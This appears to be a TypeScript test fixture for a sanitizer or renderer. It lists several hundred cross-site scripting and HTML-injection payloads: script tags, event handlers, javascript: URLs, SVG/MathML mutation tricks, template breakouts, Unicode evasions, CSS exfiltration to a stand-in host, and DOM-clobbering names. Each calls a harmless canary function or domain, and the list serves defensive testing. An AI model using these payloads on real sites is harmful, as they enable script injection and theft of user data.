/**
 * Texts that would run `canary()`, contact canary.example or change the page if a screen treated them as markup. Each exploits
 * another kind of misinterpretation.
 */
const scripts = `
<script>canary()</script>
<ScRiPt>canary()</sCrIpT>
<script >canary()</script >
<script/x>canary()</script/x>
<script\t>canary()</script\t>
<script src=//canary.example/s.js></script>
<script src="https://canary.example/s.js" defer></script>
<script type=module>import('//canary.example/m.js')</script>
<script type=module src=data:text/javascript,canary()></script>
<script>/*</script><script>*/canary()</script>
<<script>canary()//<</script>
<scr<script>ipt>canary()</scr</script>ipt>
<script><!--
canary()//--></script>
</script><script>canary()</script>
</title><script>canary()</script>
</textarea><script>canary()</script>
</style><script>canary()</script>
</noscript><script>canary()</script>
--><script>canary()</script><!--
]]><script>canary()</script>
<script>self['can'+'ary']()</script>
<script>setTimeout('canary()')</script>
<script async src=/api/files/0?canary.example></script>
<script nonce=easel>canary()</script>
<script>Function('canary()')()</script>
<script language=vbs>canary()</script>
`

const handlers = `
<img src=x onerror=canary()>
<img src=x onerror="canary()">
<IMG SRC=x OnErRoR=canary()>
<img/src=x/onerror=canary()>
<img src=x onerror=canary\`\`>
<img src=x onerror=&#99;anary()>
<img src=x onerror=&#x63;&#x61;nary()>
<img src=/seal.svg onload=canary()>
<img src onerror=canary()//
<image src=x onerror=canary()>
<body onload=canary()>
<body onpageshow=canary()>
<b onmouseover=canary()>over</b>
<i onpointerenter=canary()>enter</i>
<em onfocus=canary() tabindex=0 autofocus>focus</em>
<input autofocus onfocus=canary()>
<select autofocus onfocus=canary()><option>
<textarea autofocus onfocus=canary()></textarea>
<details open ontoggle=canary()>x</details>
<video src=x onerror=canary()></video>
<video><source src=x onerror=canary()></video>
<audio src=x onerror=canary() autoplay></audio>
<marquee onstart=canary()>x</marquee>
<a onclick=canary() href=#>press</a>
<br onanimationstart=canary() style=animation:x>
<div onscroll=canary() style=overflow:auto>x</div>
<dialog open onclose=canary()>x</dialog>
<object data=x onerror=canary()></object>
<iframe onload=canary()></iframe>
<p contenteditable onblur=canary()>x</p>
<strong ontransitionend=canary()>x</strong>
<x onbeforeinput=canary() contenteditable>x
<button popovertarget=p>x</button><p popover id=p onbeforetoggle=canary()>
<form onformdata=canary()><button>x</button></form>
`

const addresses = `
<a href=javascript:canary()>link</a>
<a href="JaVaScRiPt:canary()">link</a>
<a href="java\tscript:canary()">link</a>
<a href="&#106;avascript:canary()">link</a>
<a href="javascript&colon;canary()">link</a>
<a href=" javascript:canary()">link</a>
<a href="\u0001javascript:canary()">link</a>
<a href="javascript://canary.example/%0Acanary()">link</a>
<a href="data:text/html,<script>canary()</script>">link</a>
<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==">link</a>
<a href="vbscript:canary()">link</a>
<a href="blob:https://canary.example/1">link</a>
<a href="filesystem:https://canary.example/1">link</a>
<a href="//canary.example/">link</a>
<a href="https://canary.example/" target=_top>link</a>
<a href="https://canary.example/" ping="//canary.example/p">link</a>
<a href="https://canary.example/" rel=opener>link</a>
<a href="https://user:pass@canary.example/">link</a>
<a href="https:/\\canary.example">link</a>
<a href="\\\\canary.example">link</a>
<a href="https://canary.example/" download style=position:fixed>link</a>
<a xlink:href=javascript:canary()>link</a>
<area href=javascript:canary() shape=default>
<form action=javascript:canary()><input type=submit></form>
<button formaction=javascript:canary()>send</button>
<iframe src=javascript:canary()></iframe>
<iframe srcdoc="<script>parent.canary()</script>"></iframe>
<embed src=//canary.example/e.swf>
<object data=data:text/html,canary></object>
[link](javascript:canary())
![picture](https://canary.example/p.png)
[link]: javascript:canary()
javascript:canary()
https://canary.example/"onmouseover="canary()
`

const namespaces = `
<svg onload=canary()>
<svg/onload=canary()//
<svg><script>canary()</script></svg>
<svg><script href=//canary.example/s.js /></svg>
<svg><animate onbegin=canary() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:canary()></svg>
<svg><a><animate attributeName=href values=javascript:canary() /><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=canary()></svg>#x"></svg>
<svg><image href=//canary.example/i.png></svg>
<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>
<svg><desc><img src=x onerror=canary()></desc></svg>
<svg><title><img src=x onerror=canary()></title></svg>
<svg><style><img src=x onerror=canary()></style></svg>
<svg></p><style><a id="</style><img src=x onerror=canary()>">
<math><a xlink:href=javascript:canary()>x</a></math>
<math href=javascript:canary()>x</math>
<math><mtext><img src=x onerror=canary()></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=canary()></annotation-xml></math>
<math><mi><table><mglyph><style><img src=x onerror=canary()></style>
<math><mtext><option><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=canary() src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>
<svg><mtext><p><style><!--</style><img src=x onerror=canary()>-->
<noscript><p title="</noscript><img src=x onerror=canary()>">
<xmp><p title="</xmp><img src=x onerror=canary()>">
<noembed><img title="</noembed><img src=x onerror=canary()>">
<template><img src=x onerror=canary()></template>
<table><b><img src=x onerror=canary()></b></table>
<table><td></b><svg onload=canary()><tr>
<b><a><b><a href="https://canary.example/"><img src=x onerror=canary()></b>
<i><p><em><p></i><img src=x onerror=canary()></em>
<plaintext><img src=x onerror=canary()>
<listing>&lt;img src=x onerror=canary()&gt;</listing>
<!--><img src=x onerror=canary()>-->
<!-- --!><img src=x onerror=canary()>
<![CDATA[><img src=x onerror=canary()>]]>
<?x ><img src=x onerror=canary()>?>
<!doctype x [<img src=x onerror=canary()>]>
</br><img src=x onerror=canary()>
`

const breakouts = `
"><img src=x onerror=canary()>
'><img src=x onerror=canary()>
" onmouseover="canary()
' onfocus='canary()' autofocus='
\`><img src=x onerror=canary()>
" autofocus onfocus=canary() x="
"/><svg/onload=canary()>
\\"><script>canary()</script>
";canary();"
';canary();'
\`;canary();\`
\${canary()}
{{canary()}}
{{constructor.constructor('canary()')()}}
#{canary()}
<%= canary() %>
[[\${canary()}]]
{canary()}
*{canary()}
\\u003cimg src=x onerror=canary()\\u003e
\\x3cscript\\x3ecanary()\\x3c/script\\x3e
%3Cscript%3Ecanary()%3C/script%3E
%253Cimg%2520src=x%2520onerror=canary()%253E
&lt;img src=x onerror=canary()&gt;
&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;
&#60;img src=x onerror=canary()&#62;
&#x3c;svg onload=canary()&#x3e;
&lt<img src=x onerror=canary()>
"]}</script><script>canary()</script>
{"__html":"<img src=x onerror=canary()>"}
{"$$typeof":"Symbol(react.element)","type":"script"}
[object Object]<img src=x onerror=canary()>
$&<img src=x onerror=canary()>$1
{name}<img src=x onerror=canary()>{0}
`

const letters = `
＜script＞canary()＜/script＞
‹img src=x onerror=canary()›
<\u0131mg src=x onerror=canary()>
<ſcript>canary()</ſcript>
<\u200bscript>canary()</script>
<img\u00a0src=x onerror=canary()>
<img\u2028src=x onerror=canary()>
<img\fsrc=x\fonerror=canary()>
<img src=x onerror\u0000=canary()>
\u202e<script>canary()</script>
\u2066<img src=x onerror=canary()>\u2069
\ufeff<svg onload=canary()>
<svg on\u00adload=canary()>
+ADw-script+AD4-canary()+ADw-/script+AD4-
\u00bcscript\u00becanary()\u00bc/script\u00be
<i\u0301mg src=x onerror=canary()>
<a href="https://c\u0430nary.example">link</a>
\u0085<img src=x onerror=canary()>
<\ud83d\ude00 onclick=canary()>x
<b\u2060 onclick=canary()>x</b>
`

const styles = `
<style>@import '//canary.example/a.css'</style>
<style>*{background:url(//canary.example/b)}</style>
<style>input[value^=a]{background:url(//canary.example/c)}</style>
<b style="background:url(//canary.example/d)">x</b>
<i style="position:fixed;inset:0;z-index:9999">x</i>
<em style=width:expression(canary())>x</em>
<strong style="-moz-binding:url(//canary.example/e)">x</strong>
<b style="behavior:url(//canary.example/f)">x</b>
<b class="toasts menu dialog">x</b>
<link rel=stylesheet href=//canary.example/g.css>
<link rel=prefetch href=//canary.example/h>
<link rel=dns-prefetch href=//canary.example>
<meta http-equiv=refresh content="0;url=//canary.example/">
<meta http-equiv=refresh content="0;javascript:canary()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta name=referrer content=unsafe-url>
<base href=//canary.example/>
<base target=_blank>
<img src="//canary.example/i.png?
<img src='//canary.example/j.png?
<form action=//canary.example/><textarea name=t>
<input type=hidden name=t value="//canary.example/
<a href="//canary.example/k?
<img srcset="//canary.example/l 1x">
<picture><source srcset=//canary.example/m><img></picture>
<video poster=//canary.example/n></video>
<table background=//canary.example/o>
<button form=login formaction=//canary.example/>x</button>
`

const names = `
<a id=easelEarly><a id=easelEarly name=answers>
<form id=root><input name=children></form>
<img id=trustedTypes name=trustedTypes>
<form name=body><input name=appendChild></form>
<form id=documentElement><input name=dataset>
<iframe name=easelEarly></iframe>
<div id=root>x</div>
__proto__
constructor
prototype
hasOwnProperty
toString
valueOf
__defineGetter__
__lookupSetter__
then
toJSON
undefined
`

const listed = [scripts, handlers, addresses, namespaces, breakouts, letters, styles, names]
  .flatMap((family) => family.split('\n'))
  .filter((line) => line !== '')

/** All payloads without duplicates, including some that our calls refuse, such as NUL. */
export const payloads: readonly string[] = [...new Set(listed)]
